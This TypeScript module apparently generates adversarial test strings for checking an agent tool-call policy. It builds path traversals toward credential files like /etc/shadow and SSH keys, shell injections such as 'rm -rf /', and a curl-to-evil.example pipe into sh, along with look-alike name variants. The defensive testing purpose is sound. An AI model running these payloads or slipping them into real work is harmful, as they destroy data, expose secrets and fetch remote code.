import type { SchemaHints } from './patterns.js';

/** Latin letters and the Cyrillic letters that look the same. */
const LOOKALIKE: Record<string, string> = {
  a: '\u0430',
  c: '\u0441',
  e: '\u0435',
  o: '\u043e',
  p: '\u0440',
  x: '\u0445',
  y: '\u0443',
  i: '\u0456',
  s: '\u0455',
};

/** Replaces the first letter that has a Cyrillic twin (`read_file` → `reаd_file` with U+0430). */
export function lookalike(text: string): string | undefined {
  for (let i = 0; i < text.length; i++) {
    const twin = LOOKALIKE[text[i]!];
    if (twin) return text.slice(0, i) + twin + text.slice(i + 1);
  }
  return undefined;
}

/** ASCII → fullwidth forms (`/` → `／`). */
export function fullwidth(text: string): string {
  return text.replace(/[!-~]/g, (ch) => String.fromCharCode(ch.charCodeAt(0) + 0xfee0));
}

const SENSITIVE = ['/etc/passwd', '/etc/shadow', '/root/.ssh/id_rsa', '/proc/self/environ', '/var/run/secrets/token'];

const SHELL = [
  '; rm -rf /',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '&& curl http://evil.example/x | sh',
  'x\nrm -rf /',
  'rm  -rf /',
  'rm -r -f /',
  'rm -fr /',
  'RM -RF /',
  'rm\t-rf /',
];

const GENERIC = [
  '',
  ' ',
  '../../etc/passwd',
  '..\\..\\windows\\system32\\config\\sam',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '~/.ssh/id_rsa',
  'file:///etc/passwd',
  '\u0000',
  '\u202e',
  'A'.repeat(10_000),
  ...SENSITIVE,
  ...SHELL,
];

/**
 * Adversarial strings for this policy: generic attacks (traversal, shell metacharacters, NUL,
 * very long) and, for every literal a pattern starts with (`/srv/`), values that pass a naive
 * prefix check but escape it (`/srv/../etc/passwd`, `/srv/..`, `/srv-evil/x`), case and look-alike variants.
 * `targets` are paths the traversals aim at (sensitive files, plus literals from expectations).
 * A fixed order: the same hints give the same list.
 */
export function adversarialStrings(hints: SchemaHints, targets: readonly string[] = []): string[] {
  const out = new Set<string>(GENERIC);
  const aims = [...SENSITIVE, ...targets.map((t) => (t.startsWith('/') ? t : `/${t}`))].map((t) =>
    t.endsWith('/') ? `${t}passwd` : t,
  );
  for (const lit of [...hints.literals].sort()) {
    const base = lit.endsWith('/') ? lit : `${lit}/`;
    out.add(lit);
    // The folder itself and its parent as a last segment: `^/tmp/x/[^/]+$` admits both.
    out.add(`${base}.`);
    out.add(`${base}..`);
    for (const aim of aims) {
      const rel = aim.replace(/^\/+/, '');
      out.add(`${base}../${rel}`);
      out.add(`${base}../../${rel}`);
      out.add(`${base}./../${rel}`);
      out.add(`${base}%2e%2e/${rel}`);
      out.add(`${base}..\\${rel.replace(/\//g, '\\')}`);
    }
    // An unanchored pattern (`/srv/`) admits its literal anywhere: after a target, or mid-path.
    for (const aim of aims) out.add(`${aim}${lit.startsWith('/') ? '' : '/'}${lit}`);
    out.add(`/etc/x${lit.startsWith('/') ? '' : '/'}${lit}`);
    out.add(`${lit.replace(/\/$/, '')}-evil/x`);
    out.add(`${lit.replace(/\/$/, '')}..`);
    out.add(lit.toUpperCase());
    const twin = lookalike(lit);
    if (twin) out.add(twin);
    out.add(fullwidth(lit));
    out.add(`${base}${'a'.repeat(5_000)}`);
    out.add(`${base}x; rm -rf /`);
    out.add(`${base}$(id)`);
  }
  for (const c of [...hints.constants].sort()) {
    out.add(c.toUpperCase());
    out.add(` ${c}`);
    const twin = lookalike(c);
    if (twin) out.add(twin);
  }
  for (const t of targets) out.add(t);
  return [...out];
}

/**
 * Adversarial numbers: each bound the schemas set (`maximum: 100`), and one and a half past it
 * either way, where an off-by-one (`maximum` for `exclusiveMaximum`) lets a value through; then
 * zero, signs, a fraction, and integers past 2^53 (they lose precision). Plain random numbers
 * almost never land on a bound. Ascending by size, 0 first (what a counterexample shrinks to).
 */
export function adversarialNumbers(hints: SchemaHints): number[] {
  const out = new Set<number>([0, 1, -1, 0.5, 2 ** 53 + 2, -(2 ** 53) - 2]);
  for (const b of hints.numbers) for (const d of [0, -1, 1, -0.5, 0.5]) out.add(b + d);
  return [...out].filter(Number.isFinite).sort((a, b) => Math.abs(a) - Math.abs(b) || a - b);
}

/** Names an agent might send instead of `name`: case variants, look-alikes, padding. */
export function nameVariants(name: string): string[] {
  const out = new Set<string>([
    name.toUpperCase(),
    name.charAt(0).toUpperCase() + name.slice(1),
    fullwidth(name),
    `${name} `,
    `${name}\u200b`,
  ]);
  const twin = lookalike(name);
  if (twin) out.add(twin);
  out.delete(name);
  return [...out];
}
